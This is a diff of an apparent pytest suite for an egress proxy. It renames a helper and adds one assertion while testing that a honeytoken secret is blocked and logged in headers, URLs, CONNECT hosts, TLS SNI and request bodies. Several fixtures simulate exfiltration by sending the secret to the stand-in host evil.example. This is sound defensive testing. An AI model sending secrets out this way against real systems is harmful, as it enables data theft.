@@ -35,7 +35,7 @@ async def trapped(world: Egress) -> AsyncIterator[Egress]:
     await world.apply(sandbox(*RULES), other())
 
 
-async def found(world: Egress, where: str) -> dict[str, Any]:
+async def assert_found(world: Egress, where: str) -> dict[str, Any]:
     """The one find, as it was told."""
     await until(lambda: any(one.get("rule") == "honeytoken" for one in world.log.decided))
     [told] = [one for one in world.log.decided if one.get("rule") == "honeytoken"]
@@ -59,20 +59,20 @@ async def test_a_request_with_one_in_its_head_does_not_go_out(
     answer = await ask(trapped, TO_ALLOWED, request_, sni=ALLOWED)
     assert answer.status == 403
     assert SECRET.encode() not in answer.body
-    await found(trapped, where)
+    await assert_found(trapped, where)
     assert not trapped.origin.hits
 
 
 async def test_nor_to_a_host_that_is_not_allowed(trapped: Egress) -> None:
     """That it would have been refused anyway doesn't make it innocent."""
     answer = await ask(trapped, plain(f"http://evil.example/{SECRET}", host="evil.example"))
-    told = await found(trapped, "the address of a request")
+    told = await assert_found(trapped, "the address of a request")
     assert (answer.status, told["method"]) == (403, "GET")
 
 
 async def test_nor_in_the_name_of_a_host_to_tunnel_to(trapped: Egress) -> None:
     await ask(trapped, connect(f"{SECRET}.evil.example:443"))
-    told = await found(trapped, "the address of a request")
+    told = await assert_found(trapped, "the address of a request")
     assert told["method"] == "CONNECT"
 
 
@@ -86,7 +86,8 @@ async def test_nor_in_the_name_of_a_host_to_tunnel_to(trapped: Egress) -> None:
 async def test_nor_in_what_shows_no_token(trapped: Egress, first: bytes) -> None:
     """Whose it is, is known by the address."""
     await ask(trapped, first)
-    await found(trapped, "the address of a request")
+    told = await assert_found(trapped, "the address of a request")
+    assert told["method"] == first.split(b" ")[0].decode()
 
 
 @pytest.mark.parametrize("host", [ALLOWED, "pinned.example"])
@@ -101,12 +102,12 @@ async def test_nor_in_the_name_that_tls_is_asked_for(trapped: Egress, host: str)
                 context.wrap_socket(sock, server_hostname=f"{SECRET}.example").close()
 
     await asyncio.to_thread(hello)
-    await found(trapped, "the SNI of a tunnel")
+    await assert_found(trapped, "the SNI of a tunnel")
 
 
 async def test_nor_in_what_is_no_request(trapped: Egress) -> None:
     await ask(trapped, plain(f"http://{ALLOWED}:99999/{SECRET}"))
-    await found(trapped, "what is no request")
+    await assert_found(trapped, "what is no request")
 
 
 @pytest.mark.parametrize("size", [0, 3 << 20])
@@ -114,7 +115,7 @@ async def test_a_body_with_one_in_it_does_not_arrive(trapped: Egress, size: int)
     body = b"x" * size + SECRET.encode() + b"y" * size
     head = line("POST", "/post/x", f"Content-Length: {len(body)}", host=ALLOWED)
     await ask(trapped, TO_ALLOWED, head + body, sni=ALLOWED)
-    await found(trapped, "the body of a request")
+    await assert_found(trapped, "the body of a request")
     await trapped.settled()
     assert trapped.log.outcomes[-1]["result"] == "cut"
     assert SECRET.encode() not in b"".join(one.body for one in trapped.origin.hits)
